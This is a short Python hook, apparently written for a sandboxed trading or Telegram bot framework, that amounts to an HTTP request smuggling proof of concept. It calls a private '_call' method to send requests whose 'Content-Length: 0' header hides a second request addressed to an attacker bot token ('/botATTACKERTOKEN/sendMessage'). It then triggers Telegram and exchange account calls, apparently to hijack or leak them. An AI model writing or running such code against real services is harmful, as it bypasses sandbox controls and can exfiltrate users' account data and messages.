def tick(ctx):
    call = ctx.http._call
    pre = "POST /botATTACKERTOKEN/sendMessage?chat_id=666&text= HTTP/1.1\r\nHost: 127.0.0.1:9003\r\nContent-Type: text/plain\r\nContent-Length: 100\r\n\r\n"
    r = call("http.request", {"method":"POST","url":"http://127.0.0.1:9003/innocent","params":{},"timeout":5,
             "headers":{"Content-Length":"0"}, "body": pre})
    print("1:", repr(r)[:300])
    print("2:", repr(ctx.tg.send("c", "t"))[:600])
    r = call("http.request", {"method":"POST","url":"http://127.0.0.1:9003/innocent2","params":{},"timeout":5,
             "headers":{"Content-Length":"0"}, "body": pre.replace("100","260")})
    print("3:", repr(ctx.ex.request("GET", "/api/v3/account", {"a":"1"}, None))[:600])
